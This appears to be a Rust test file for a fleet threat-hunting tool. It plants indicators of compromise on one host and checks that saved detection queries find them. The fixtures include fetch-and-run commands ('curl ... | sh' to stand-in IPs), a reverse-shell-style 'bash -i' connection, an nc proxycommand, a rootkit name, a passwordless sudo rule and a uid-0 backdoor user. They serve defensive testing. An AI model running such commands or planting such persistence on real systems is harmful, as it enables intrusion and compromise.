//! The saved queries find what they ask for: on a fleet with one planted row for each, and on the demo's fleet.

use std::collections::{BTreeMap, BTreeSet};

use serde_json::{Value, json};

use crate::env::{TestEnv, root};

/// Hosts of the written fleet; the last one has what is planted.
const HOSTS: [&str; 8] = ["web-1", "web-2", "web-3", "web-4", "web-5", "web-6", "web-7", "web-8"];
const PLANTED: &str = "web-8";

/// What every host of the written fleet has.
fn usual() -> Vec<(&'static str, Value)> {
    vec![
        (
            "processes",
            json!([
                {"pid": "1", "name": "systemd", "path": "/usr/lib/systemd/systemd", "cmdline": "/sbin/init",
                 "cwd": "/", "on_disk": "1", "uid": "0"},
                {"pid": "80", "name": "nginx", "path": "/usr/sbin/nginx", "cmdline": "nginx", "cwd": "/",
                 "on_disk": "1", "uid": "33"},
                {"pid": "81", "name": "python3", "path": "/usr/bin/python3", "cmdline": "python3 app.py",
                 "cwd": "/srv", "on_disk": "1", "uid": "33"},
            ]),
        ),
        (
            "listening_ports",
            json!([{"pid": "80", "port": "443", "protocol": "6", "address": "0.0.0.0", "path": "",
                    "process_path": "/usr/sbin/nginx"}]),
        ),
        (
            "process_open_sockets",
            json!([
                {"pid": "81", "remote_address": "127.0.0.1", "remote_port": "5432", "local_port": "40000",
                 "protocol": "6", "family": "2", "process_path": "/usr/bin/python3", "state": "ESTABLISHED"},
                {"pid": "80", "remote_address": "203.0.113.9", "remote_port": "45700", "local_port": "443",
                 "protocol": "6", "family": "2", "process_path": "/usr/sbin/nginx", "state": "ESTABLISHED"},
            ]),
        ),
        (
            "process_envs",
            json!([{"pid": "80", "key": "LANG", "value": "C", "process_path": "/usr/sbin/nginx"}]),
        ),
        ("process_memory_map", json!([{"pid": "80", "path": "/usr/sbin/nginx", "permissions": "r-xp"}])),
        (
            "suid_bin",
            json!([{"path": "/usr/bin/sudo", "username": "root", "groupname": "root", "permissions": "S"}]),
        ),
        (
            "crontab",
            json!([{"command": "root run-parts /etc/cron.hourly", "path": "/etc/crontab", "minute": "17"}]),
        ),
        ("cron_scripts", json!([{"path": "/etc/cron.daily/logrotate", "schedule": "daily", "sha256": "a1"}])),
        (
            "system_controls",
            json!([{"name": "kernel.tainted", "current_value": "0"},
                   {"name": "kernel.randomize_va_space", "current_value": "2"}]),
        ),
        ("kernel_modules", json!([{"name": "ext4", "size": "1", "status": "Live"}])),
        ("deb_packages", json!([{"name": "bash", "version": "5.2", "arch": "amd64"}])),
        ("rpm_packages", json!([{"name": "zlib", "version": "1.3", "release": "1", "arch": "x86_64"}])),
        (
            "docker_containers",
            json!([{"id": "c1", "name": "/app", "image": "app", "privileged": "0", "security_options": ""}]),
        ),
        ("docker_container_mounts", json!([{"id": "c1", "source": "/srv/app", "destination": "/app"}])),
        (
            "sudoers",
            json!([{"source": "/etc/sudoers", "header": "%sudo", "rule_details": "ALL=(ALL:ALL) ALL"}]),
        ),
        (
            "authorized_keys",
            json!([{"username": "admin", "uid": "1000", "key": "AAAA1", "key_file": "/home/admin/.ssh/k"}]),
        ),
        ("etc_hosts", json!([{"address": "127.0.0.1", "hostnames": "localhost"}])),
        ("dns_resolvers", json!([{"type": "nameserver", "address": "10.0.0.2", "id": "0"}])),
        ("shadow", json!([{"username": "root", "password_status": "locked", "hash_alg": ""}])),
        (
            "users",
            json!([{"username": "root", "uid": "0", "shell": "/bin/bash"},
                   {"username": "www-data", "uid": "33", "shell": "/usr/sbin/nologin"}]),
        ),
        (
            "last",
            json!(HOSTS.map(|_| json!({"username": "admin", "from_host": "10.0.0.7", "type_name":
                   "user-process", "time": "1700000000"}))),
        ),
        (
            "systemd_units",
            json!([{"id": "auditd.service", "fragment_path": "/usr/lib/systemd/system/auditd.service",
                    "active_state": "active", "load_state": "loaded", "unit_file_state": "enabled"}]),
        ),
        ("selinux_settings", json!([{"scope": "", "key": "enforce", "value": "1"}])),
        ("apparmor_profiles", json!([{"name": "nginx", "mode": "enforce"}])),
        (
            "file",
            json!([{"path": "/usr/bin/ls", "type": "regular", "mode": "0755", "size": "9", "mtime":
                    "1700000000", "ctime": "1700000001"}]),
        ),
        ("hash", json!([{"path": "/usr/bin/ls", "sha256": "aa"}])),
        (
            "iptables",
            json!([{"filter_name": "filter", "chain": "INPUT", "target": "ACCEPT", "policy": "DROP"}]),
        ),
        ("startup_items", json!([{"name": "ssh.service", "path": "/usr/sbin/sshd", "type": "systemd unit"}])),
        ("certificates", json!([{"sha1": "c1", "common_name": "ISRG Root X1", "ca": "1"}])),
        ("extended_attributes", json!([{"path": "/usr/bin/ls", "key": "user.note", "value": "x"}])),
        ("ssh_configs", json!([{"username": "admin", "block": "host *", "option": "serveraliveinterval 9"}])),
        ("mounts", json!([{"path": "/", "type": "ext4", "device": "/dev/root"}])),
        ("shell_history", json!([{"username": "admin", "command": "ls"}])),
    ]
}

/// What one host has beside that, and the query that must show it, by a text that only this row has.
fn planted() -> Vec<(&'static str, &'static str, Value, &'static str)> {
    let process = |pid: &str, path: &str, more: Value| {
        let mut row = json!({"pid": pid, "name": "x", "path": path, "cmdline": path, "cwd": "/", "on_disk": "1",
            "uid": "0"});
        row.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        row
    };
    let socket = |pid: &str, address: &str, port: &str| {
        json!({"pid": pid, "remote_address": address, "remote_port": port, "local_port": "50000", "protocol": "6",
            "family": "2", "process_path": "/usr/bin/x", "state": "ESTABLISHED"})
    };
    vec![
        (
            "accounts_without_password",
            "shadow",
            json!({"username": "ftp", "password_status": "empty"}),
            "ftp",
        ),
        (
            "blocked_update_hosts",
            "etc_hosts",
            json!({"address": "0.0.0.0", "hostnames": "security.debian.org"}),
            "security.debian.org",
        ),
        (
            "capabilities_on_files",
            "extended_attributes",
            json!({"path": "/usr/bin/vim", "key": "security.capability", "value": "cap_setuid"}),
            "/usr/bin/vim",
        ),
        (
            "changed_after_written",
            "file",
            json!({"path": "/usr/bin/ps", "type": "regular", "mode": "0755", "mtime": "1500000000",
                "ctime": "1700000000"}),
            "/usr/bin/ps",
        ),
        (
            "cron_calls_network",
            "crontab",
            json!({"command": "curl -s http://198.51.100.7/a | sh", "path": "/etc/cron.d/a"}),
            "198.51.100.7/a",
        ),
        (
            "defences_switched_off",
            "systemd_units",
            json!({"id": "rsyslog.service", "fragment_path": "/dev/null", "load_state": "masked",
                "active_state": "inactive", "unit_file_state": "masked"}),
            "rsyslog.service",
        ),
        (
            "defences_switched_off",
            "apparmor_profiles",
            json!({"name": "sshd-profile", "mode": "complain"}),
            "sshd-profile",
        ),
        (
            "dns_resolvers_off_majority",
            "dns_resolvers",
            json!({"type": "nameserver", "address": "198.51.100.53", "id": "1"}),
            "198.51.100.53",
        ),
        (
            "downloads_in_shell_history",
            "shell_history",
            json!({"username": "root", "command": "curl http://198.51.100.8/b | bash"}),
            "198.51.100.8/b",
        ),
        (
            "firewall_rules_on_few_hosts",
            "iptables",
            json!({"filter_name": "filter", "chain": "INPUT", "target": "ACCEPT", "dst_port": "31337"}),
            "31337",
        ),
        (
            "host_names_on_few_hosts",
            "etc_hosts",
            json!({"address": "198.51.100.9", "hostnames": "pay.example.net"}),
            "pay.example.net",
        ),
        (
            "kernel_modules_on_few_hosts",
            "kernel_modules",
            json!({"name": "diamorphine", "size": "9", "status": "Live"}),
            "diamorphine",
        ),
        (
            "kernel_settings_off_majority",
            "system_controls",
            json!({"name": "kernel.randomize_va_space", "current_value": "0"}),
            "kernel.randomize_va_space",
        ),
        (
            "kernel_taint",
            "system_controls",
            json!({"name": "kernel.tainted", "current_value": "12288"}),
            "12288",
        ),
        (
            "keys_on_few_hosts",
            "authorized_keys",
            json!({"username": "deploy", "uid": "1001", "key": "AAAA2", "key_file": "/home/deploy/.ssh/k"}),
            "AAAA2",
        ),
        (
            "keys_that_are_root",
            "authorized_keys",
            json!({"username": "root", "uid": "0", "key": "AAAA3", "key_file": "/root/.ssh/authorized_keys"}),
            "AAAA3",
        ),
        (
            "ld_preload",
            "process_envs",
            json!({"pid": "80", "key": "LD_PRELOAD", "value": "/usr/lib/libx.so", "process_path": "/usr/sbin/a"}),
            "/usr/lib/libx.so",
        ),
        (
            "listeners_outside_packages",
            "processes",
            process("90", "/srv/.x/listener", json!({})),
            "/srv/.x/listener",
        ),
        (
            "rare_listening_ports",
            "listening_ports",
            json!({"pid": "90", "port": "31338", "protocol": "6", "address": "0.0.0.0", "process_path":
                "/srv/.x/listener"}),
            "31338",
        ),
        (
            "logins_from_few_hosts",
            "last",
            json!({"username": "admin", "from_host": "198.51.100.10", "type_name": "user-process", "time": "1"}),
            "198.51.100.10",
        ),
        (
            "mining",
            "processes",
            process("91", "/usr/bin/worker", json!({"cmdline": "worker -o stratum+tcp://p.example:1"})),
            "stratum+tcp",
        ),
        ("mining", "process_open_sockets", socket("91", "198.51.100.11", "3333"), "198.51.100.11:3333"),
        (
            "mounts_over_system",
            "mounts",
            json!({"path": "/usr/lib/x86_64", "type": "tmpfs", "device": "tmpfs"}),
            "/usr/lib/x86_64",
        ),
        (
            "own_certificate_authorities",
            "certificates",
            json!({"sha1": "c2", "common_name": "Totally Trusted CA", "ca": "1"}),
            "Totally Trusted CA",
        ),
        (
            "package_versions_off_majority",
            "rpm_packages",
            json!({"name": "zlib", "version": "0.9", "release": "6", "arch": "x86_64"}),
            "0.9-6",
        ),
        (
            "packet_sniffers",
            "process_open_sockets",
            json!({"pid": "92", "family": "17", "protocol": "768", "process_path": "/usr/bin/sniff", "name": "s"}),
            "/usr/bin/sniff",
        ),
        (
            "preload_file",
            "file",
            json!({"path": "/etc/ld.so.preload", "type": "regular", "mode": "0644", "size": "20"}),
            "/etc/ld.so.preload",
        ),
        (
            "privileged_containers",
            "docker_containers",
            json!({"id": "c2", "name": "/priv", "image": "escape", "privileged": "1"}),
            "escape",
        ),
        (
            "processes_from_deleted_files",
            "processes",
            process("93", "/usr/bin/gone", json!({"on_disk": "0"})),
            "/usr/bin/gone",
        ),
        ("processes_in_writable_places", "processes", process("94", "/var/tmp/t", json!({})), "/var/tmp/t"),
        ("processes_outside_package_paths", "processes", process("95", "/data/odd", json!({})), "/data/odd"),
        (
            "programs_from_memory",
            "process_memory_map",
            json!({"pid": "96", "path": "/memfd:x (deleted)", "permissions": "r-xp", "name": "m"}),
            "memfd:x",
        ),
        (
            "programs_in_hidden_directories",
            "processes",
            process("97", "/usr/lib/.cache/agent", json!({})),
            "/usr/lib/.cache/agent",
        ),
        (
            "rare_cron_scripts",
            "cron_scripts",
            json!({"path": "/etc/cron.daily/zz", "schedule": "daily", "sha256": "b2"}),
            "/etc/cron.daily/zz",
        ),
        (
            "rare_suid",
            "suid_bin",
            json!({"path": "/usr/bin/find", "username": "root", "groupname": "root", "permissions": "S"}),
            "/usr/bin/find",
        ),
        (
            "suid_outside_packages",
            "suid_bin",
            json!({"path": "/var/lib/x/rootsh", "username": "root", "groupname": "root", "permissions": "S"}),
            "/var/lib/x/rootsh",
        ),
        (
            "service_accounts_with_shells",
            "users",
            json!({"username": "games", "uid": "5", "shell": "/bin/bash"}),
            "games",
        ),
        (
            "shells_with_connections",
            "processes",
            process("98", "/usr/bin/bash", json!({"cmdline": "bash -i"})),
            "bash -i",
        ),
        (
            "shells_with_connections",
            "process_open_sockets",
            socket("98", "198.51.100.12", "443"),
            "198.51.100.12",
        ),
        (
            "ssh_settings_that_pipe",
            "ssh_configs",
            json!({"username": "admin", "block": "host *", "option": "proxycommand nc %h %p"}),
            "proxycommand",
        ),
        (
            "startup_items_on_few_hosts",
            "startup_items",
            json!({"name": "upd", "path": "/usr/local/bin/upd", "type": "systemd unit"}),
            "/usr/local/bin/upd",
        ),
        (
            "sudo_without_password",
            "sudoers",
            json!({"source": "/etc/sudoers.d/x", "header": "games", "rule_details": "ALL=(ALL) NOPASSWD: ALL"}),
            "/etc/sudoers.d/x",
        ),
        (
            "tmp_executables",
            "file",
            json!({"path": "/dev/shm/e", "type": "regular", "mode": "0755", "size": "9"}),
            "/dev/shm/e",
        ),
        ("uid_zero_users", "users", json!({"username": "toor", "uid": "0", "shell": "/bin/sh"}), "toor"),
        (
            "units_from_odd_places",
            "systemd_units",
            json!({"id": "odd.service", "fragment_path": "/var/tmp/odd.service", "active_state": "active"}),
            "odd.service",
        ),
        ("users_on_few_hosts", "users", json!({"username": "eve", "uid": "1005", "shell": "/bin/sh"}), "eve"),
    ]
}

/// Queries about the store, about differences in time, or of all rows: tested where these are.
const OTHERS: [&str; 14] = [
    "changed_binaries",
    "coverage_problems",
    "first_seen",
    "hosts_overview",
    "missing_services",
    "new_authorized_keys",
    "not_in_snapshot",
    "open_sockets_by_process",
    "rare_cron",
    "rare_processes",
    "rare_rows",
    "row_on_hosts",
    "rows_on_few_hosts",
    "services_on_few_hosts",
];

/// A fleet in which one host has all that is planted.
fn written_fleet() -> TestEnv {
    let env = TestEnv::new();
    let mut tables: Vec<(&str, &str, Value)> = Vec::new();
    for host in HOSTS {
        for (table, rows) in usual() {
            let mut rows = rows.as_array().unwrap().clone();
            if host == PLANTED {
                let of_table = planted().into_iter().filter(|(_, planted, ..)| *planted == table);
                rows.extend(of_table.map(|(_, _, row, _)| row));
            }
            tables.push((host, table, Value::Array(rows)));
        }
    }
    env.import_tables(&tables);
    env
}

fn ask(env: &TestEnv, name: &str) -> Vec<Value> {
    env.json(&["query", "--name", name, "--format", "json"]).as_array().unwrap().clone()
}

#[test]
fn each_hunt_shows_what_is_planted_and_little_else() {
    let env = written_fleet();
    for (name, _, _, shown) in planted() {
        let rows = ask(&env, name);
        let hits: Vec<&Value> = rows.iter().filter(|row| row.to_string().contains(shown)).collect();
        assert!(!hits.is_empty(), "{name} does not show {shown}: {rows:?}");
        assert!(hits.iter().all(|row| row.to_string().contains(PLANTED)), "{name}: {hits:?}");
        // What all hosts have is in no answer but those of the planted host.
        let others = rows.iter().filter(|row| !row.to_string().contains(PLANTED)).count();
        assert_eq!(others, 0, "{name} shows what is usual: {rows:?}");
    }
}

#[test]
fn no_query_is_without_a_test_of_its_answer() {
    let tested: BTreeSet<&str> = planted().iter().map(|(name, ..)| *name).chain(OTHERS).collect();
    let untested: Vec<String> = std::fs::read_dir(root().join("sql/analyze"))
        .unwrap()
        .map(|file| file.unwrap().path().file_stem().unwrap().to_str().unwrap().to_owned())
        .filter(|name| !tested.contains(name.as_str()) && name != "snapshots_of_fleet")
        .collect();
    assert!(untested.is_empty(), "{untested:?}");
    let hunts: BTreeSet<&str> = planted().iter().map(|(name, ..)| *name).collect();
    assert!(hunts.len() >= 30, "{} hunts", hunts.len());
}

#[test]
fn hunts_find_the_compromised_hosts_of_the_demo() {
    const FIND: [&str; 17] = [
        "changed_after_written",
        "changed_binaries",
        "cron_calls_network",
        "kernel_modules_on_few_hosts",
        "listeners_outside_packages",
        "package_versions_off_majority",
        "preload_file",
        "processes_in_writable_places",
        "processes_outside_package_paths",
        "programs_in_hidden_directories",
        "rare_cron_scripts",
        "rare_listening_ports",
        "rare_suid",
        "service_accounts_with_shells",
        "services_on_few_hosts",
        "tmp_executables",
        "users_on_few_hosts",
    ];
    let env = TestEnv::new();
    let demo = env.json(&["demo", "--bundled", "--seed", "1", "--store", "demo", "--format", "json"]);
    let compromised: Vec<&str> =
        demo["planted"].as_array().unwrap().iter().map(|host| host["host"].as_str().unwrap()).collect();
    let mut answers: BTreeMap<&str, Vec<Value>> = BTreeMap::new();
    for name in planted().iter().map(|(name, ..)| *name).chain(FIND) {
        answers.entry(name).or_insert_with(|| {
            let asked = ["query", "--store", "demo", "--name", name, "--format", "json"];
            env.json(&asked).as_array().unwrap().clone()
        });
    }
    for name in FIND {
        let text = Value::from(answers[name].clone()).to_string();
        assert!(compromised.iter().any(|host| text.contains(host)), "{name}: {text}");
    }
    for (name, rows) in answers {
        // A person reads them.
        assert!(rows.len() <= 120, "{name} has {} rows on 60 hosts", rows.len());
    }
}
